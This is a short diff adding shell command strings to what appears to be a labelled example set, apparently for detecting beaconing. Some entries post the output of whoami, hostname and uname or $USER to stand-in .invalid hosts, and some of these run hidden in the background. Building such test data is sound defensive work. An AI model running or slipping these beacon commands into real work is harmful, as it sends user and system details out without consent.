@@ -1658,8 +1658,10 @@ EXAMPLES.update(
             (
                 'nohup curl -s https://beacon.invalid/b -d "$(whoami)@$(hostname)" &>/dev/null &',
                 "wget -q -O- https://t.invalid/p?u=$USER",
+                'curl -s --data "node=$(uname -a)" https://enroll.invalid/seed',
             ),
             (
+                'curl -s -o "/home/$USER/tool" https://releases.invalid/tool',
                 'curl -L -o tool "https://x.invalid/tool_$(uname -s)_$(uname -m)"',
                 'curl -s "http://localhost:8080/hello?name=$USER"',
                 'echo "hello $USER"',
